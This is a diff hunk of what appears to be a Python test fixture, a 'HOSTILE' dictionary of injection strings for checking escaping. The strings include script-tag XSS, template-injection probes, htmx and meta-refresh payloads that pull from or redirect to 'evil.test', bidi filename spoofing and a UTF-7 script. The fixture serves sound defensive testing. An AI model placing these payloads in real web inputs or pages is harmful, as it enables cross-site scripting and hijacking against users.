@@ -32,14 +32,14 @@ HOSTILE = {
     "comment": "<!--><script>window.pwned = 1</script-->",
     "template": "{{ 1234577 * 3 }}{% for x in [1] %}{{ x }}{% endfor %}{{ ''.__class__.__mro__ }}",
     "htmx": "<div hx-get='http://evil.test/h' hx-trigger='load' hx-on::load='pwned = 1'>x</div>",
-    "boost": "<div hx-get='/_studio/' hx-trigger='load' hx-target='body' hx-swap='outerHTML'></div>",
-    "meta": "<meta http-equiv='refresh' content='0;url=http://evil.test/'><base href='//evil.test'>",
+    "boost": "<div hx-get='/_studio/' hx-trigger='load' hx-target='body'></div>",
+    "meta": "<meta http-equiv=refresh content='0;url=http://evil.test/'><base href='//evil.test'>",
     "entity": "&lt;script&gt;window.pwned = 1&lt;/script&gt; &#60;b&#62; &amp;amp;",
     "direction": "user\u202e\u2066txt.exe\u2069\u202d\u200f\ufeff",
     "controls": "a\x00b\x1b[31mred\x07\x08\x7f\x9b\u2028\u2029",
     "long": _LONG[:9000],
     "utf-7": "+ADw-script+AD4-window.pwned = 1+ADw-/script+AD4-",
-    "object": "<object data='data:text/html,<script>parent.pwned=1</script>'></object><embed src=x>",
+    "object": "<object data='data:text/html,<script>parent.pwned=1</script>'></object><embed>",
 }
 
 
